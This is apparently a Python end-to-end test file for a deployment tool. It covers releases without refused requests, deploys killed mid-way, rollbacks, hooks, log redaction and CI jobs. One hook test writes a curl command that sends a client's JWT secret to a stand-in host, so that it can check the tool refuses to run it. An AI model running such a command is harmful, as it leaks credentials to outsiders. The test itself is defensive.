"""A client's releases on a real host: changed without a pause, killed, undone, gone back to."""

from __future__ import annotations

import json
import subprocess
import tempfile
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs

import pytest

from tests.e2e.ci_jobs import Runner, git, gitlab_api
from tests.e2e.deployed import DIGEST, DOMAIN, FILL, Deployed, eventually, in_database
from tests.e2e.operator import Operator
from tests.e2e.visitors import Visitors
from tests.lab.host import Host
from tests.lab.lab import Lab

pytestmark = pytest.mark.timeout(1500)

# What stands on the host when a deploy has come so far; NEXT is the stand-in, API the service itself.
_NEXT, _API = "otobot-acme-vault-api-next", "otobot-acme-vault-api-1"
_HEALTHY = "docker inspect --format '{{{{.State.Health.Status}}}}' {} 2>/dev/null | grep -qx healthy"
BOUNDARIES = {
    "current is switched": '[ "$(readlink /opt/otobot/acme/current)" != "$before" ]',
    "the stand-in answers": _HEALTHY.format(_NEXT),
    "the service is replaced": f'[ "$(docker inspect --format "{{{{.Id}}}}" {_API} 2>/dev/null)" != "$api" ]',
}
# The run with all that it has started, as an out-of-memory killer would: nothing of it gets to clean up.
_KILL = """
before=$(readlink /opt/otobot/acme/current); api=$(docker inspect --format '{{{{.Id}}}}' {api})
echo watching
for i in $(seq 6000); do
  if {condition}; then systemctl kill --signal=KILL 'otobot-*.scope' && echo killed; exit; fi
  sleep 0.05
done
"""


@pytest.fixture(scope="module")
def deployed(lab: Lab, tmp_path_factory) -> Iterator[Deployed]:
    """A host with Docker and images, one client with a vault behind nginx, and rows that must not be lost."""
    host = lab.make("warm")
    try:
        operator = Operator(tmp_path_factory.mktemp("operator"))
        operator.init()
        operator.add_host("vps-1", host)
        operator.create("acme", "vps-1", DOMAIN, "postgres", "vault-api", "nginx")
        in_database(host, FILL)
        yield Deployed(operator, host, "", {})
    finally:
        lab.destroy(host)


def settings(deployed: Deployed, **services: dict) -> None:
    """Edit the manifest by hand, as an operator does."""
    edit(deployed, settings=services)


def edit(deployed: Deployed, **fields: object) -> None:
    path = deployed.operator.fleet / "clients-config.json"
    manifest = json.loads(path.read_text())
    manifest["clients"]["acme"].update(fields)
    path.write_text(json.dumps(manifest, indent=2) + "\n")


def stand_ins(host: Host) -> str:
    """The one-off containers that are there."""
    return host.ssh("docker ps --all --quiet --filter label=otobot.stand-in", user="root").stdout.strip()


def one_healthy_release(deployed: Deployed) -> dict:
    """What `releases` says of a host where one release is current, settled and well, and nothing else is left."""
    found = deployed.operator.data("releases", "acme")
    assert found["trouble"] == {}
    assert found["settled"]
    assert [each["number"] for each in found["releases"] if each["current"]] == [found["current"]]
    assert stand_ins(deployed.host) == ""
    parts = deployed.host.ssh("ls -A /opt/otobot/acme /opt/otobot/acme/releases", user="root").stdout
    assert ".part" not in parts
    return found


def test_a_stateless_service_changes_without_a_refused_request(deployed, record_property):
    """Through nginx, from outside: nobody is refused while vault-api is replaced; an archive and a trial go with it."""
    settings(deployed, **{"vault-api": {"log_level": "debug"}})
    plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
    words = {each["what"]: each["after"] for step in plan["steps"] for each in step["changes"]}
    assert words["replace vault-api"].startswith("answers all along")
    assert plan["archive"]
    with Visitors(deployed.host) as visitors:
        done = deployed.operator.data("deploy", "acme")["clients"][0]
    record_property("visits", len(visitors.answers))
    record_property("slowest_s", visitors.slowest_s())
    assert visitors.refused() == []
    assert len(visitors.answers) > 20
    assert (done["state"], done["release"]) == ("changed", done["before"] + 1)
    assert done["smoke"][-1] == "erase the user"
    assert (deployed.operator.fleet / "clients/acme/archives/before-deploy").joinpath(done["archive"]).exists()
    row = one_healthy_release(deployed)["releases"][-1]
    assert row["changed"] == ["configuration"]
    assert row["who"]
    again = deployed.operator.data("deploy", "acme")["clients"][0]
    assert (again["state"], again["archive"], again["changed"]) == ("unchanged", None, [])


def test_a_deploy_killed_at_any_boundary_is_finished_by_the_next(deployed):
    """Run and children killed with -9: the same command ends with one healthy release, and nobody was refused."""
    rows = in_database(deployed.host, DIGEST)
    with Visitors(deployed.host) as visitors:
        for number, (name, condition) in enumerate(BOUNDARIES.items()):
            settings(deployed, **{"vault-api": {"log_level": ("info", "warning")[number % 2]}})
            killer = subprocess.Popen(
                [*deployed.host.ssh_argv(user="root"), _KILL.format(api=_API, condition=condition)],
                stdout=subprocess.PIPE, text=True,
            )  # fmt: skip
            with killer:
                assert killer.stdout.readline() == "watching\n"
                cut = deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke", check=False)
                assert killer.stdout.read() == "killed\n", name
            assert cut.returncode == 1, (name, cut.stderr)
            assert "was ended from outside" in cut.stderr, name
            deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke")
            one_healthy_release(deployed)
    assert visitors.refused() == []
    assert in_database(deployed.host, DIGEST) == rows


def test_a_release_that_never_gets_healthy_is_undone(deployed):
    """Exit code 5 with the failing container's last words and no secret; nobody was refused, and no row is lost."""
    before, rows = deployed.operator.data("releases", "acme")["current"], in_database(deployed.host, DIGEST)
    broken = deployed.operator.fleet / "clients-config.json"
    good = broken.read_text()
    # The program refuses its configuration and ends; the manifest's own check lets it through.
    settings(deployed, **{"vault-api": {"allowed_origins": ["no origin"]}})
    plan = deployed.operator.data("deploy", "acme", "--plan")["clients"][0]
    began = time.monotonic()
    with Visitors(deployed.host) as visitors:
        failed = deployed.operator.run("deploy", "acme", "--json", check=False)
    assert failed.returncode == 5, failed.stderr
    error = json.loads(failed.stdout)["error"]
    assert (error["kind"], error["code"]) == ("TakenBack", 5)
    assert f"release {before} is back and healthy" in error["message"]
    assert any("vault-api |" in line for line in error["details"]), error
    assert not [value for value in deployed.operator.secrets("acme").values() if value in failed.stdout + failed.stderr]
    assert time.monotonic() - began < plan["back_s"]
    assert visitors.refused() == []
    assert one_healthy_release(deployed)["current"] == before
    assert in_database(deployed.host, DIGEST) == rows
    broken.write_text(good)


def test_rollback_and_the_way_forward_again(deployed):
    """By default to the release before, without a refused request; it says what it does not undo, and refuses nonsense."""
    before = deployed.operator.data("releases", "acme")
    numbers = [each["number"] for each in before["releases"]]
    with Visitors(deployed.host) as visitors:
        done = deployed.operator.data("rollback", "acme", "--yes")
    assert visitors.refused() == []
    assert (done["before"], done["release"]) == (before["current"], numbers[-2])
    assert any("migrations" in line for line in done["stays"])
    found = one_healthy_release(deployed)
    assert found["current"] == numbers[-2]
    assert [each["number"] for each in found["releases"]] == numbers
    refused = deployed.operator.run("rollback", "acme", "--to", "999", "--yes", check=False)
    assert refused.returncode == 2
    assert "otobotctl releases acme" in refused.stderr
    assert deployed.operator.run("rollback", "acme", check=False).returncode == 2  # nobody is there to agree


def test_a_killed_operator_does_not_stop_a_deploy(deployed):
    """The command is killed with -9 while the release comes up: the host finishes, and the next call proves it."""
    before = one_healthy_release(deployed)
    running = deployed.operator.start("deploy", "acme", "--no-backup")
    try:
        eventually(lambda: stand_ins(deployed.host) or running.poll() is not None)
    finally:
        running.kill()
        running.wait()
    done = deployed.operator.data("deploy", "acme")["clients"][0]
    # Never a number again that another release had, although the manifest says what that one did.
    assert done["release"] == before["releases"][-1]["number"] + 1
    assert (done["before"], done["state"], done["archive"]) == (before["current"], "changed", None)
    assert done["smoke"][-1] == "erase the user"
    assert one_healthy_release(deployed)["current"] == done["release"]


def test_hooks_run_before_and_after(deployed, tmp_path):
    """On both machines with the client's name, no secret among their arguments; a failed one takes the release back."""
    before, mark = one_healthy_release(deployed)["current"], tmp_path / "mark"
    here = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT $OTOBOT_ENVIRONMENT $OTOBOT_RELEASE" > "$0"', str(mark)]}
    there = {"argv": ["sh", "-c", 'echo "$OTOBOT_CLIENT" > /root/hook; id -u >> /root/hook'], "where": "host"}
    back = {"when": "after_deploy", "argv": ["false"], "on_failure": "back"}
    hooks = [{"when": "before_deploy", **here}, {"when": "after_deploy", **there}, back]
    edit(deployed, settings={"vault-api": {"log_level": "warning"}}, hooks=hooks)
    failed = deployed.operator.run("deploy", "acme", "--no-backup", "--no-smoke", check=False)
    assert failed.returncode == 5, failed.stderr
    assert "the after_deploy hook false failed" in failed.stderr
    assert mark.read_text() == f"acme prod {before}\n"
    assert deployed.host.ssh("cat /root/hook", user="root").stdout == "acme\n0\n"
    assert one_healthy_release(deployed)["current"] == before
    secret = deployed.operator.secrets("acme")["API_JWT_SECRET"]
    edit(deployed, hooks=[{"when": "before_deploy", "argv": ["curl", f"https://x.example/{secret}"]}])
    refused = deployed.operator.run("deploy", "acme", check=False)
    assert (refused.returncode, secret in refused.stderr) == (10, False)
    edit(deployed, settings={"vault-api": {"log_level": "error"}}, hooks=[])


def _speak(host, heard):
    """Let the vault's container say something now and then, until somebody has heard it."""
    while not heard.wait(0.3):
        host.ssh(f"docker exec {_API} sh -c 'echo tick > /proc/1/fd/1'", user="root")


def test_logs_tell_without_secrets(deployed):
    """Lines by container and time, followed until nobody listens; then nothing is left on the host."""
    found = deployed.operator.data("logs", "acme", "vault-api", "--tail", "5")
    assert found["lines"]
    assert {each["container"] for each in found["lines"]} == {"vault-api-1"}
    secret = deployed.operator.secrets("acme")["API_JWT_SECRET"]
    deployed.host.ssh(f"docker exec {_API} sh -c 'echo oops {secret} > /proc/1/fd/1'", user="root")
    said = deployed.operator.run("logs", "acme", "--since", "5m").stdout
    assert "oops ***" in said
    assert secret not in said
    argv = deployed.operator.argv("logs", "acme", "vault-api", "--follow", "--tail", "0", "--json")
    follower = subprocess.Popen(
        argv, env=deployed.operator.environment(), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True
    )
    with follower:
        stop = threading.Timer(120, follower.kill)
        stop.start()
        heard = threading.Event()
        speaker = threading.Thread(target=_speak, args=(deployed.host, heard))
        speaker.start()
        try:
            line = json.loads(follower.stdout.readline())
        finally:
            heard.set()
            speaker.join()
        stop.cancel()
        follower.kill()
    assert (line["version"], line["container"], line["text"]) == (1, "vault-api-1", "tick")
    eventually(lambda: not deployed.host.pids(name="docker-compose"), 60)


@pytest.fixture(scope="module")
def repository(deployed, tmp_path_factory):
    """The fleet in git with the jobs of both, and a key that the CI alone has: what a person sets there."""
    operator, place = deployed.operator, tmp_path_factory.mktemp("ci")
    for name in ("github", "gitlab"):
        operator.run("init", str(operator.fleet), "--ci", name)
    key = place / "ci.txt"
    operator.run("secrets", "recipients", "add", made_key(key))
    # The host's key is pinned in the fleet, not at somebody's home.
    git("init", "--quiet", cwd=operator.fleet)
    committed(deployed, "the fleet")
    return {"ssh": deployed.host.key, "age": key, "place": place}


def made_key(file: Path) -> str:
    """Make an age key as the documentation says; return its public half."""
    subprocess.run(["age-keygen", "--output", str(file)], check=True, capture_output=True, timeout=60)
    return next(line.split()[-1] for line in file.read_text().splitlines() if "public key" in line)


def committed(deployed: Deployed, why: str) -> None:
    """Commit the fleet as it is."""
    git("add", "--all", cwd=deployed.operator.fleet)
    git("commit", "--quiet", "--allow-empty", "--message", why, cwd=deployed.operator.fleet)


def runner(deployed: Deployed, repository: dict, name: str, *, files: bool, **more: str) -> Runner:
    """A fresh runner; GitLab's variables can be files, GitHub's are the keys themselves."""
    keys = {"OTOBOTCTL_AGE_KEY": repository["age"], "OTOBOTCTL_SSH_KEY": repository["ssh"]}
    said = {variable: str(path) if files else path.read_text().strip() for variable, path in keys.items()}
    given = {**said, "OTOBOTCTL_PACKAGE": "otobotctl==0.1.0"}
    place = Path(tempfile.mkdtemp(prefix=f"{name}-", dir=repository["place"]))
    return Runner.cloned(deployed.operator.fleet, place, given, more)


def no_key_left(place: Path) -> bool:
    """Whether neither key is in a file below a runner's home or checkout."""
    return not [path for path in place.rglob("*") if path.is_file() and b"PRIVATE KEY" in path.read_bytes()]


def test_the_jobs_of_github_plan_deploy_and_watch(deployed, repository):
    """As `init --ci github` writes them, with keys from variables alone: the comment, the deploy, and drift at night."""
    operator = deployed.operator
    before = one_healthy_release(deployed)["current"]
    settings(deployed, **{"vault-api": {"log_level": "debug"}})
    committed(deployed, "more in the log")
    pull = {"github.token": "ghs_0123", "github.repository": "otobot/fleet", "github.event.pull_request.number": "7"}
    ci = runner(deployed, repository, "github", files=False, **pull)
    planned = ci.github("plan")
    assert planned.status == 0, planned.said
    assert ci.note("gh") == "pr comment 7 --body-file comment.md\n"
    assert ci.note("comment") == ci.note("summary") == (ci.folder / "comment.md").read_text()
    assert ci.note("comment").startswith("### What a deploy would do\n~~~text\n")
    assert "replace vault-api" in ci.note("comment")
    assert "acme: an archive first, then 1 steps" in ci.note("comment")
    assert one_healthy_release(deployed)["current"] == before
    merged = ci.github("deploy")
    assert merged.status == 0, merged.said
    told = json.loads((ci.folder / "deploy.json").read_text())
    assert (told["version"], told["ok"], told["data"]["clients"][0]["state"]) == (1, True, "changed")
    assert one_healthy_release(deployed)["current"] == told["data"]["clients"][0]["release"] != before
    assert [path.name for path in ci.folder.glob("clients/*/archives/before-deploy/*.zip.age")]  # what is kept of it
    assert "audit/" in git("status", "--porcelain", cwd=ci.folder)
    night = ci.github("nightly")
    assert night.steps == {
        "Install otobotctl": 0,
        "Hosts that differ from the manifest": 0,
        "Secrets whose time has come": 0,
    }, night.said
    deployed.host.ssh("echo '# by hand' >> /opt/otobot/acme/current/compose.yaml", user="root")
    night = ci.github("nightly")
    assert list(night.steps.values()) == [0, 4, 0], night.said  # the last one is looked at all the same
    assert "client-acme/release" in night.said
    assert ci.note("installed").count("--quiet otobotctl==0.1.0") == 4
    values = operator.secrets("acme").values()
    assert not [value for value in values if value in planned.said + merged.said + night.said + ci.note("comment")]
    assert no_key_left(ci.place)


def test_the_jobs_of_gitlab_plan_deploy_and_watch(deployed, repository):
    """The same with keys in files, the note sent to an API; the deploy puts right what the night had found."""
    merge = {"CI_PROJECT_ID": "5", "CI_MERGE_REQUEST_IID": "9"}
    ci = runner(deployed, repository, "gitlab", files=True, **merge)
    night = ci.gitlab("nightly")
    assert night.status == 4, night.said
    with gitlab_api() as api:
        ci.more |= {"CI_API_V4_URL": api.url, "OTOBOTCTL_GITLAB_TOKEN": "glpat-0123"}
        planned = ci.gitlab("plan")
        assert planned.status == 0, planned.said
        # A plan that cannot be made is told there too, and fails the job.
        ci.variables = {**ci.variables, "OTOBOTCTL_AGE_KEY": "AGE-SECRET-KEY-1NONE"}
        failed = ci.gitlab("plan")
        assert failed.status, failed.said
    ((path, token, body), (_, _, second)) = api.came
    assert (path, token) == ("/api/v4/projects/5/merge_requests/9/notes", "glpat-0123")
    (first,) = parse_qs(body)["body"]
    assert first.startswith("### What a deploy would do\n~~~text\n")
    assert "compose.yaml" in first
    assert "error:" in parse_qs(second)["body"][0]
    ci.variables = {**ci.variables, "OTOBOTCTL_AGE_KEY": str(repository["age"])}
    merged = ci.gitlab("deploy")
    assert merged.status == 0, merged.said
    assert json.loads((ci.folder / "deploy.json").read_text())["ok"]
    night = ci.gitlab("nightly")
    assert night.status == 0, night.said
    # Who leaves could read everything, so that everything is due.
    operator = deployed.operator
    operator.run("secrets", "recipients", "add", leaving := made_key(ci.place / "leaving.txt"))
    operator.run("secrets", "recipients", "remove", leaving, "--yes")
    committed(deployed, "somebody leaves")
    night = runner(deployed, repository, "later", files=True).gitlab("nightly")
    assert (night.status, "exposed" in night.said) == (4, True), night.said
    assert "install -qy --no-install-recommends openssh-client git curl" in ci.note("apt")
    assert "glpat-0123" not in planned.said
    assert no_key_left(ci.place)
